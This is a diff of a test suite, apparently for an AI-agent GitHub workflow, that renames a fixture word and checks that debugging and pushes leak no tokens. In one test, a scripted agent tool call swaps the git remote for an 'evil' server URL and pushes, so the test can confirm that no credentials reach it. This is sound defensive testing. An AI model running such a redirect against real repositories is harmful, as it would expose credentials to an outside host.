@@ -10,7 +10,7 @@ import { answer, sceneWith } from "./scene.ts";
 
 const bash = (command: string) => call("terminal", { command });
 const write = (path: string, text: string) => call("file_editor", { command: "create", path, file_text: text });
-const mended: Script = [write("note.txt", "mended\n"), ...answer];
+const fixed: Script = [write("note.txt", "fixed\n"), ...answer];
 
 /** Everything by which a workflow, git and our libraries can be made to say more; git's goes into a file. */
 function debugging(trace: string): Record<string, string> {
@@ -23,7 +23,7 @@ function debugging(trace: string): Record<string, string> {
 }
 
 test("P10: a job that is debugged tells no secret, neither in its log nor in a trace of git", async () => {
-  const { play, stage } = await sceneWith({ script: mended, inputs: { "commit-mode": "git" } });
+  const { play, stage } = await sceneWith({ script: fixed, inputs: { "commit-mode": "git" } });
   const trace = join(stage.folder, "trace.txt");
   const { rehearsal } = await play({ environment: debugging(trace) });
   expect(rehearsal.outputs.outcome).toBe("changed");
@@ -32,17 +32,17 @@ test("P10: a job that is debugged tells no secret, neither in its log nor in a t
 
 test("P10: where Node itself is told to print what it starts, the log has the token of a push masked", async () => {
   // The runner's masks are only in the log.
-  const { play } = await sceneWith({ script: mended, inputs: { "commit-mode": "git" } }, / in stdout$/);
+  const { play } = await sceneWith({ script: fixed, inputs: { "commit-mode": "git" } }, / in stdout$/);
   const { rehearsal } = await play({ environment: { NODE_DEBUG: "child_process,http,https,net,tls" } });
   expect(rehearsal.runner.log.some(({ text }) => text.includes("AUTHORIZATION: basic ***"))).toBe(true);
   expect(rehearsal.outputs.outcome).toBe("changed");
 });
 
 test("P10, its benign twin: the same run without it does the same, and says what it does", async () => {
-  const { play } = await sceneWith({ script: mended, inputs: { "commit-mode": "git" } });
+  const { play } = await sceneWith({ script: fixed, inputs: { "commit-mode": "git" } });
   const { rehearsal } = await play();
   expect(rehearsal.outputs.outcome).toBe("changed");
-  expect(rehearsal.diff).toContain("+mended");
+  expect(rehearsal.diff).toContain("+fixed");
   expect(rehearsal.runner.stdout).toContain("note.txt");
 });
 
@@ -84,11 +84,11 @@ test.for([
     let serverUrl = "";
     const { play, stage } = await sceneWith({
       script: [
-        write("note.txt", "mended\n"),
+        write("note.txt", "fixed\n"),
         () => bash(`${swaps(evil.url, serverUrl)}; git ls-remote origin; git push origin HEAD:main; true`),
         () => {
           byTools = evil.heard.length;
-          return call("finish", { message: "Mended." });
+          return call("finish", { message: "Fixed." });
         },
       ],
       inputs: { "commit-mode": mode, isolation },
@@ -96,7 +96,7 @@ test.for([
     serverUrl = stage.github.serverUrl;
     const { rehearsal } = await play();
     expect(rehearsal.outputs.outcome).toBe("changed");
-    expect(rehearsal.diff).toContain("+mended");
+    expect(rehearsal.diff).toContain("+fixed");
     expect(byTools > 0).toBe(isolation === "none");
     expect(evil.heard.slice(byTools)).toEqual([]);
     expect(evil.heard.join("\n")).not.toMatch(/authorization/i);
@@ -105,7 +105,7 @@ test.for([
 
 test("P24, its benign twin: a tool may add a remote and look at what there is", async () => {
   const { play } = await sceneWith({
-    script: [bash("git remote add upstream https://upstream.test/app; git remote -v"), ...mended],
+    script: [bash("git remote add upstream https://upstream.test/app; git remote -v"), ...fixed],
   });
   const { rehearsal, told } = await play();
   expect(told).toContain("https://upstream.test/app (push)");
